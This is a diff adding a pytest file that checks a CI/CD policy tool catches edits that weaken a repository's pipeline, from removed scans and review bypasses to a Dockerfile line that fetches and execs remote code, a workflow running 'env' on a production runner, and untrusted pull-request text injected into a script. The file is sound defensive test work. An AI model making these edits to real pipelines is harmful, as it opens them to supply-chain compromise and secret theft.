@@ -1,0 +1,244 @@
+"""Edits that loosen what must never be loosened, and edits that do not.
+
+Each is made on a copy of the checkout as its author would make it, without a word to whoever
+reviews: `pipeline controls` must object. `guard.yaml` runs it from main over the pull request's files,
+so that an edit cannot switch it off.
+"""
+
+import re
+import shutil
+from dataclasses import dataclass
+
+import pytest
+from pipeline import cli, controls, trust
+from pipeline.checkout import Checkout
+
+PARTS = (".github", "ci", "deploy", "infra", "Dockerfile", "LICENSE", "Makefile", "SECURITY.md")
+W = ".github/workflows"
+
+
+@dataclass(frozen=True)
+class Edit:
+    """A change of one file: a pattern and what takes its place; a new file without a pattern."""
+
+    name: str
+    path: str
+    pattern: str | None
+    by: str
+
+    def make(self, root):
+        file = root / self.path
+        file.parent.mkdir(parents=True, exist_ok=True)
+        if self.pattern is None:
+            file.write_text(self.by)
+            return
+        changed, count = re.subn(self.pattern, lambda _: self.by, file.read_text(), count=1)
+        assert count, f"{self.name}: {self.pattern} is not in {self.path} any more"
+        file.write_text(changed)
+
+
+PROWLER = """
+name: prowler
+on: {push: {branches: ['**']}}
+permissions: {}
+jobs:
+  prowl:
+    name: prowl
+    runs-on: [self-hosted, gridos-prd-weu]
+    timeout-minutes: 5
+    permissions: {contents: read}
+    steps: [{run: env}]
+"""
+HOSTED = PROWLER.replace("[self-hosted, gridos-prd-weu]", "ubuntu-24.04")
+
+LOOSER = [
+    # The thirteen that an earlier set of controls let through.
+    Edit(
+        "a script of the untrusted artifact is run",
+        f"{W}/rehearse-comment.yaml",
+        r"mkdir -p out #.*\n",
+        "sh out/untrusted/notes.sh\n",
+    ),
+    Edit("a plan runs for pull requests", f"{W}/terraform.yaml", r"  push:", "  pull_request:\n  push:"),
+    Edit(
+        "tests run on production's runner",
+        f"{W}/ci.yaml",
+        r"(?s)runs-on: ubuntu-24.04(?=.*make lint)",
+        "runs-on: [self-hosted, gridos-prd-weu]",
+    ),
+    Edit(
+        "provenance may fail",
+        f"{W}/publish.yaml",
+        r'"\$DIGEST" "\$SOURCE"\n',
+        '"$DIGEST" "$SOURCE" || true\n',
+    ),
+    Edit(
+        "vulnerabilities may be there",
+        f"{W}/build.yaml",
+        r"(run: ci/run-pipeline vulnerabilities.*)\n",
+        "run: ci/run-pipeline vulnerabilities out/scan.json || true\n",
+    ),
+    Edit("provenance of any branch", "ci/verify-provenance", r".*--source-ref.*\n", ""),
+    Edit("a cache in the build", f"{W}/build.yaml", r"no-cache: true", "no-cache: false"),
+    Edit(
+        "the image runs what it fetches",
+        "Dockerfile",
+        r"\nCOPY service",
+        "\nRUN python -c 'from urllib.request import *; exec(urlopen(\"http://x\").read())'\nCOPY service",
+    ),
+    Edit("one team owns all", ".github/CODEOWNERS", None, "* @example/grid-platform\n"),
+    Edit(
+        "a rehearsal is not required",
+        ".github/rulesets/main.json",
+        r' +\{"context": "rehearse".*\n',
+        "",
+    ),
+    Edit(
+        "admission judges another namespace",
+        "deploy/admission/images.yaml",
+        r"metadata.name: gridos\n",
+        "metadata.name: grido\n",
+    ),
+    Edit("a new workflow on production's runner", f"{W}/prowler.yaml", None, PROWLER),
+    Edit("a new workflow", f"{W}/prowler.yaml", None, HOSTED),
+    # Who may start what, and with which rights.
+    Edit("a release from any branch", f"{W}/release.yaml", r"branches: \[main\]", "branches: ['**']"),
+    Edit("a release by hand", f"{W}/release.yaml", r"on:\n", "on:\n  workflow_dispatch:\n"),
+    Edit("a promotion of any ref", f"{W}/promote.yaml", r" +if: github.ref.*\n", ""),
+    Edit("a rollback of any ref", f"{W}/rollback.yaml", r" +if: github.ref.*\n", ""),
+    Edit("any status advances", f"{W}/advance.yaml", r" +if: .*\n", ""),
+    Edit("failures advance too", f"{W}/advance.yaml", r"state == 'success'", "state != 'pending'"),
+    Edit("advance goes to production", f"{W}/advance.yaml", r"environment=staging", "environment=production"),
+    Edit("a comment may write contents", f"{W}/rehearse-comment.yaml", r"contents: read", "contents: write"),
+    Edit("the tests may write", f"{W}/ci.yaml", r"contents: read", "contents: write"),
+    Edit("the image's job has an identity", f"{W}/build.yaml", r"contents: read\n    outputs", "contents: read\n      id-token: write\n    outputs"),
+    Edit("rights by default", f"{W}/ci.yaml", r"permissions: \{\}", "permissions: write-all"),
+    Edit("a stranger's event with our rights", f"{W}/ci.yaml", r"  pull_request:", "  pull_request_target:"),
+    # Environments, keys and branches.
+    Edit("no environment at the pin", f"{W}/promote.yaml", r" +environment: \S+ inputs.environment \}\}-pin\n", ""),
+    Edit("production's pin is dev's", f"{W}/promote.yaml", r"environment: \S+ inputs.environment \}\}-pin", "environment: dev-pin"),
+    Edit("a rollback by the plan's environment", f"{W}/rollback.yaml", r"environment: \S+ inputs.environment \}\}-rollback", "environment: dev-rollback"),
+    Edit("nobody is asked for production", ".github/environments.json", r'("production-pin".*?"reviewers": )\["grid-reliability"\]', '"production-pin": {"branches": ["main"], "reviewers": []'),
+    Edit("every branch may pin", ".github/environments.json", r'"dev-pin": \{"branches": \["main"\]', '"dev-pin": {"branches": ["*"]'),
+    Edit("who asks may approve", ".github/environments.json", r'"prevent_self_review": true', '"prevent_self_review": false'),
+    Edit("the key in every job", f"{W}/release.yaml", r"uses: ./.github/workflows/publish.yaml\n", "uses: ./.github/workflows/publish.yaml\n    secrets: inherit\n"),
+    Edit("the App's token for everything", f"{W}/promote.yaml", r" +permission-contents: write\n", ""),
+    Edit("the App may administer", f"{W}/rollback.yaml", r"permission-contents: write", "permission-administration: write"),
+    Edit("anybody may write pins", ".github/rulesets/environments.json", r'"active"', '"disabled"'),
+    Edit("the App goes past review", ".github/rulesets/main.json", r'"bypass_actors": \[\]', '"bypass_actors": [{"actor_id": 0, "actor_type": "Integration", "bypass_mode": "always"}]'),
+    Edit("main's rules are only evaluated", ".github/rulesets/main.json", r'"active"', '"evaluate"'),
+    Edit("main's rules are another branch's", ".github/rulesets/main.json", r"~DEFAULT_BRANCH", "refs/heads/stable"),
+    Edit("no review of the last push", ".github/rulesets/main.json", r'last_push_approval": true', 'last_push_approval": false'),
+    Edit("any App's check counts", ".github/rulesets/main.json", r', "integration_id": 15368', ""),
+    Edit("security does not own ci", ".github/CODEOWNERS", r"/ci/ .*\n", ""),
+    Edit("reliability does not own gates", ".github/CODEOWNERS", r"/deploy/base/analysis.*\n", ""),
+    # What is scanned, verified, signed and admitted.
+    Edit("the verdict of the stage before is anybody's", f"{W}/promote.yaml", r"VERDICT_APP: \$\{\{ vars.VERDICT_APP \}\}", "VERDICT_APP: github-actions[bot]"),
+    Edit("the scan is left out", f"{W}/build.yaml", r"(?s)      - uses: aquasecurity.*?(?=      - run)", ""),
+    Edit("the scan sees less", f"{W}/build.yaml", r"input: out/image\n", "input: out/other\n"),
+    Edit("another image is attested", f"{W}/build.yaml", r"subject-digest: \$\{\{ needs.image.outputs.digest \}\}", "subject-digest: ${{ inputs.digest }}"),
+    Edit("attested by the job that builds", f"{W}/build.yaml", r"needs: image\n", "needs: []\n"),
+    Edit("provenance is not asked", f"{W}/publish.yaml", r"run: ci/verify-provenance.*\n", "run: 'true'\n"),
+    Edit("self-hosted provenance counts", "ci/verify-provenance", r" \\\n +--deny-self-hosted-runners", ""),
+    Edit("any workflow's provenance counts", "ci/verify-provenance", r" +--signer-workflow.*\n", ""),
+    Edit("a static key signs", f"{W}/publish.yaml", r"push --layout", "push --key cosign.key --layout"),
+    Edit("a stranger's signature", "deploy/admission/signature.yaml", r"publish.yaml@refs/heads/main", "publish.yaml@refs/heads/.*"),
+    Edit("any image reference is skipped", "deploy/admission/signature.yaml", r'glob: "\*"', 'glob: "docker.io/*"'),
+    Edit("tags are let in", "deploy/admission/images.yaml", r"\$'\)\n          &&", "$') || true\n          &&"),
+    Edit("no bill of materials is asked", "deploy/admission/signature.yaml", r"(?s)    - expression: >-\n        variables.all.map\(image,\n.*", ""),
+    Edit("the namespace carries another name", "deploy/base/namespace.yaml", r"name: gridos", "name: gridos-2"),
+    Edit("Argo CD follows any branch", "deploy/argocd/application-production.yaml", r"environments/production", "main"),
+    Edit("Argo CD heals nothing", "deploy/argocd/application-production.yaml", r"selfHeal: true", "selfHeal: false"),
+    Edit("a degraded release counts as promoted", "deploy/argocd/notifications.yaml", r"health.status == 'Healthy'", "health.status != 'Missing'"),
+    Edit("the service makes roles", "deploy/argocd/project-gridos.yaml", r"\{group: batch, kind: Job\}", "{group: rbac.authorization.k8s.io, kind: RoleBinding}"),
+    Edit("root in the image", "Dockerfile", r"USER 10001:10001", "USER 0"),
+    Edit("wheels without hashes", "Dockerfile", r"--require-hashes ", ""),
+    Edit("a base by tag", "Dockerfile", r"@sha256:\w+", ""),
+    Edit("a base of a stranger", "Dockerfile", r"python:3.13-slim@", "docker.io/stranger/python:3.13-slim@"),
+    Edit("an action of a stranger", f"{W}/release.yaml", r"actions/checkout@", "stranger/checkout@"),
+    Edit("an action by its branch", f"{W}/ci.yaml", r"@[0-9a-f]{40} # v7.0.1", "@main"),
+    Edit("the clone keeps its token", f"{W}/release.yaml", r"persist-credentials: false", "persist-credentials: true"),
+    Edit("a stranger's text in a script", f"{W}/rehearse.yaml", r'changes "\$BASE"', "changes ${{ github.event.pull_request.title }}"),
+    Edit("updates at once", ".github/dependabot.yaml", r"default-days: 7", "default-days: 0"),
+    # What checks, switched off.
+    Edit("lint objects to nothing", "Makefile", r"(?m)^(lint: .*)\n\t@.*\n", "lint: setup\n\t@true\n"),
+    Edit("a linter may fail", "Makefile", r"(zizmor --quiet.*)\n", "zizmor --quiet .github || true\n"),
+    Edit("no coverage is asked", "Makefile", r"--fail-under=\"\$\$FLOOR\"", "--fail-under=0"),
+    Edit("tests may fail", f"{W}/ci.yaml", r"run: make coverage\n", "run: make coverage || true\n"),
+    Edit("the tests' job may fail", f"{W}/ci.yaml", r"    name: test\n", "    name: test\n    continue-on-error: true\n"),
+    Edit("the tests are skipped", f"{W}/ci.yaml", r"    name: test\n", "    name: test\n    if: github.actor != 'mallory'\n"),
+    Edit("a rehearsal of nothing", f"{W}/rehearse.yaml", r"run: make rehearse.*", "run: 'true'"),
+    Edit("an expression of zizmor is off", ".github/zizmor.yaml", r"rules:\n", "rules:\n  unpinned-uses:\n    disable: true\n"),
+    Edit("actionlint ignores all", ".github/actionlint.yaml", r"- 'unexpected", "- '.*'\n      - 'unexpected"),
+    Edit("the control is emptied", "ci/pipeline/controls.py", r"(?m)^CONTROLS = \(", "CONTROLS = () or ("),
+    Edit("the digests are constant", "ci/pipeline/trust.py", r"hexdigest\(\)\[:16\]", "hexdigest()[:0]"),
+    Edit("the runner's key stays", "infra/terraform/runners/start", r"unset APP_KEY.*\n", "\n"),
+    Edit("a plan is applied unseen", "ci/terraform", r'\[ "\$act" = plan \] \|\| ', ""),
+    Edit("applies are dropped", f"{W}/terraform.yaml", r"      queue: max\n    permissions:\n      contents: read\n      id-token: write # into Azure", "    permissions:\n      contents: read\n      id-token: write # into Azure"),
+]  # fmt: skip
+
+HARMLESS = [
+    Edit("a comment", f"{W}/release.yaml", r"# Loop-safe", "# Safe from loops"),
+    Edit("a newer action", f"{W}/promote.yaml", r"@[0-9a-f]{40} # v7.0.1", f"@{'ab' * 20} # v7.0.2"),
+    Edit("a newer base image", "Dockerfile", r"@sha256:\w+", f"@sha256:{'ab' * 32}"),
+    Edit("a longer time limit", f"{W}/ci.yaml", r"timeout-minutes: 45", "timeout-minutes: 60"),
+    Edit("artifacts are kept longer", f"{W}/build.yaml", r"retention-days: 90", "retention-days: 60"),
+    Edit("another nightly target", f"{W}/nightly.yaml", r"- prove-load\n", "- prove-load\n          - prove-edge\n"),
+    Edit("a comment of the owners", ".github/CODEOWNERS", r"# What has rights", "# What has the rights"),
+    Edit("a comment of the image", "Dockerfile", r"# A number, so", "# A number and no name, so"),
+    Edit("another helper in the Makefile", "Makefile", r"\nclean:", "\nspotless: clean  ## more\n\nclean:"),
+    Edit("the gates' limits", "deploy/base/analysis-release-gates.yaml", r"#", "# As it is:"),
+    Edit("the service's version", "deploy/base/rollout.yaml", r"#", "# As it is:"),
+    Edit("a comment of admission", "deploy/admission/images.yaml", r"# The registry is", "# Its registry is"),
+]  # fmt: skip
+
+
+@pytest.fixture
+def copy(root, tmp_path):
+    for part in PARTS:
+        source = root / part
+        if source.is_dir():
+            ignored = shutil.ignore_patterns("__pycache__", ".terraform", "tests")
+            shutil.copytree(source, tmp_path / part, ignore=ignored)
+        else:
+            shutil.copy(source, tmp_path / part)
+    return tmp_path
+
+
+def objections(root):
+    """What `pipeline controls` would object to first."""
+    checkout = Checkout(root)
+    rows = sorted(controls.CONTROLS, key=lambda control: -control.row)
+    return next((found for row in rows if (found := list(row.check(checkout)))), [])
+
+
+@pytest.mark.parametrize("edit", LOOSER, ids=lambda e: e.name)
+def test_an_edit_that_loosens_is_noticed(copy, edit):
+    edit.make(copy)
+    assert objections(copy)
+
+
+@pytest.mark.parametrize("edit", HARMLESS, ids=lambda e: e.name)
+def test_an_edit_that_loosens_nothing_is_let_through(copy, edit):
+    edit.make(copy)
+    assert objections(copy) == []
+
+
+def test_there_are_enough_edits_and_each_is_another():
+    assert len(LOOSER) >= 60
+    assert len({(e.path, e.pattern, e.by) for e in LOOSER}) == len(LOOSER)
+
+
+def test_an_edit_that_is_declared_is_shown_where_it_is_reviewed(copy, capsys):
+    """What remains is a person: the declaration is a line in a file of the security team."""
+    LOOSER[0].make(copy)
+    before = trust.statements(Checkout(copy))
+    assert cli.main(["controls", "--accept", "--root", str(copy)]) == 0
+    assert "FAILS" not in capsys.readouterr().out
+    assert (copy / trust.FILE).read_text() == trust.write(Checkout(copy))
+    assert '"rehearse-comment.yaml / comment"' in (copy / trust.FILE).read_text()
+    assert before == trust.statements(Checkout(copy))
+
+
+def test_every_file_that_is_named_is_there(root):
+    assert [pattern for pattern in trust.FILES if not list(root.glob(pattern))] == []
